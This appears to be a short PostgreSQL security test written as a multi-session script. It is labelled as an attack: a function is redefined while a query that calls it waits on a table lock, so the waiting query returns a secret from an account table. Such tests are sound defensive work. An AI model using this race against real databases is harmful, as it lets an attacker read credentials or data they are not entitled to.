-- Gives an own function another body while a statement that calls it waits for a lock.
-- wants: read
-- attack:
CREATE FUNCTION told() RETURNS text LANGUAGE plpgsql AS $$BEGIN RETURN 'nothing'; END$$;
-- session: first
BEGIN;
LOCK TABLE mallory_own IN ACCESS EXCLUSIVE MODE;
-- session: reader
-- without waiting
SELECT told() FROM mallory_own;
-- session: second
SELECT pg_sleep(0.3);
CREATE OR REPLACE FUNCTION told() RETURNS text LANGUAGE plpgsql AS
  $$BEGIN RETURN (SELECT secret FROM vlt_account WHERE id = 1); END$$;
-- session: first
COMMIT;
